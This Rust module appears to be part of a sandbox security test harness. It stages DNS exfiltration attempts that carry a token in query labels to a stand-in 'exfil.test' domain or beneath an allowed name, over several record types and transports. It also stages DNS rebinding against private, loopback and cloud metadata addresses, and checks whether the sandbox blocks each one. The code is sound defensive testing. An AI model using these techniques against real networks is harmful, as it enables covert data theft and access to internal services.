//! Names: as a way to carry data out, and as a way to make an allowed name mean a forbidden address.
use crate::case::{Attack, Need, Promise, Scene};
use crate::hosts::sink;
use crate::policy::Policy;
use crate::stage::Stage;
use std::io;
use std::net::IpAddr;

/// A question that carries a token; the name servers of the harness must not see it. The twin asks from outside.
fn carry(s: &mut Stage, server: &str, mode: &str, kind: &str, long: bool) -> io::Result<Scene> {
    let token = s.token()?;
    let names = s.cx.world.names()?.clone();
    let allowed = s.name("seen", s.cx.world.public)?;
    let question = match long {
        true => format!("{0}.{1}.{2}.exfil.test", "a".repeat(60), "b".repeat(60), token),
        // Beneath a name that a rule names, but that is no wildcard.
        false => format!("{token}.{allowed}"),
    };
    let resolver = s.cx.world.resolver.to_string();
    let server = match server {
        "direct" => resolver.as_str(),
        _ if s.twin => "127.0.0.1",
        own => own,
    };
    let argv = s.argv("net", &["dns", server, "53", mode, kind, &question])?;
    let (policy, alive) = s.live(Policy::new().allow(&allowed, 443, ""))?;
    Ok(s.or_outside(&policy, argv)
        .without_claims()
        .alive(alive)
        .judge(move |_| names.asked(&token)))
}

/// An allowed name with answers that change, or that are forbidden from the start; the forbidden listener must stay silent.
fn rebind(s: &mut Stage, rounds: fn(&Stage) -> Vec<Vec<IpAddr>>, forbidden: IpAddr) -> io::Result<Scene> {
    let (listener, token) = (s.tcp(forbidden, sink())?, s.token()?);
    let name = format!("rebind-{token}.test");
    let port = listener.port();
    s.cx.world.names()?.name(&name, rounds(s));
    let one = format!(
        "{} send {name} {port} 'GET /{token} HTTP/1.1\\r\\nHost: {name}\\r\\nConnection: close\\r\\n\\r\\n'",
        s.program("net")?
    );
    let script = format!("echo ATTEMPT; for i in 1 2 3 4 5; do {one}; done");
    let (policy, alive) = s.live(Policy::new().allow(&name, port, ""))?;
    let mut scene = s
        .or_outside(&policy, vec!["/bin/sh".into(), "-c".into(), script])
        .without_claims()
        .alive(alive);
    scene.seconds = 40;
    Ok(scene.judge(move |_| listener.reached("an address that no allowed name may mean")))
}

/// The operator's own word overrides: `--upstream` lets the same name mean the same address.
fn upstream(s: &mut Stage) -> io::Result<Scene> {
    let (listener, token) = (s.tcp(s.cx.world.private, sink())?, s.token()?);
    let name = format!("private-{token}.test");
    let port = listener.port();
    s.cx.world.names()?.name(&name, vec![vec![s.cx.world.private]]);
    let argv = s.argv(
        "net",
        &[
            "send",
            &name,
            &port.to_string(),
            &format!("GET /{token} HTTP/1.1\\r\\nHost: {name}\\r\\nConnection: close\\r\\n\\r\\n"),
        ],
    )?;
    let policy = Policy::new().allow(&name, port, "");
    let mut scene = s.or_allowed(policy.clone(), policy, argv).without_claims();
    if s.twin {
        scene.flags = vec![
            "--upstream".into(),
            format!("{name}:{port}={}:{port}", s.cx.world.private),
        ];
    }
    Ok(scene.judge(move |_| listener.reached("a private address")))
}

const fn attack(
    name: &'static str,
    item: &'static str,
    stage: fn(&mut Stage) -> io::Result<Scene>,
) -> Attack {
    Attack {
        name,
        promise: Promise::P3,
        item,
        needs: &[Need::World, Need::Tool("/usr/bin/curl")],
        may_refuse: false,
        stage,
    }
}

const LABELS: &str = "DNS exfiltration (long labels)";
const TXT: &str = "DNS exfiltration (TXT)";
const TCP: &str = "DNS exfiltration (TCP DNS)";
const DIRECT: &str = "DNS exfiltration (direct resolver)";
const REBINDING: &str = "DNS rebinding";

pub(super) const ATTACKS: &[Attack] = &[
    attack("dns-long-labels", LABELS, |s| carry(s, "-", "udp", "1", true)),
    attack("dns-beneath-rule", LABELS, |s| carry(s, "-", "udp", "1", false)),
    attack("dns-aaaa", LABELS, |s| carry(s, "-", "udp", "28", true)),
    attack("dns-txt", TXT, |s| carry(s, "-", "udp", "16", true)),
    attack("dns-any", TXT, |s| carry(s, "-", "udp", "255", false)),
    attack("dns-null-type", TXT, |s| carry(s, "-", "udp", "10", true)),
    attack("dns-tcp", TCP, |s| carry(s, "-", "tcp", "16", true)),
    attack("dns-direct-udp", DIRECT, |s| carry(s, "direct", "udp", "1", true)),
    attack("dns-direct-tcp", DIRECT, |s| {
        carry(s, "direct", "tcp", "16", false)
    }),
    attack("rebind-private", REBINDING, |s| {
        rebind(
            s,
            |s| vec![vec![s.cx.world.public], vec![s.cx.world.private]],
            s.cx.world.private,
        )
    }),
    attack("rebind-loopback", REBINDING, |s| {
        rebind(
            s,
            |s| vec![vec![s.cx.world.public], vec![IpAddr::from([127, 0, 0, 1])]],
            IpAddr::from([127, 0, 0, 1]),
        )
    }),
    attack("rebind-metadata", REBINDING, |s| {
        rebind(
            s,
            |s| vec![vec![s.cx.world.public], vec![s.cx.world.metadata]],
            s.cx.world.metadata,
        )
    }),
    attack("rebind-mixed-answer", REBINDING, |s| {
        rebind(
            s,
            |s| vec![vec![s.cx.world.private, s.cx.world.metadata]],
            s.cx.world.metadata,
        )
    }),
    attack("rebind-mapped-answer", REBINDING, |s| {
        rebind(
            s,
            |_| {
                vec![vec![
                    "::ffff:10.0.0.1".parse().unwrap_or(IpAddr::from([10, 0, 0, 1])),
                ]]
            },
            s.cx.world.private,
        )
    }),
    attack("private-name", REBINDING, upstream),
];
